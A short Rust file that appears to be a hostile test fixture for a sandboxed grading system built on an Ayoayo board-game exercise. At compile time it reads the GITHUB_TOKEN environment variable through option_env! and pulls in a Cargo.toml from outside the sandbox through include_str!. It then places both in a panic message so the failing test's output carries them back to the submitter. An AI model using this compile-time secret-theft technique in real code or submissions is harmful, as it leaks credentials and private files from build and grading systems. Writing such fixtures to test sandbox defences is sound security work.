//! Hostile submission: reads the teacher's token and a teacher's file while it is built
//! (`option_env!`, `include_str!`, outside the sandbox), and puts them in a failing test's
//! message, which the exports carry back to the learner.

use ayoayo::{Board, Pit};

const TOKEN: Option<&str> = option_env!("GITHUB_TOKEN");
const MANIFEST: &str = include_str!("../../../Cargo.toml");

pub fn scoop(board: Board, pit: Pit) -> (Board, u8) {
    panic!("token {TOKEN:?}, the teacher's manifest: {MANIFEST}; board {board:?}, pit {pit}")
}

// The chapter's challenges, left to the reference: the chapter's tests name them.
pub use ayoayo::challenges::scoop::{scoop_all, fullest_pit};
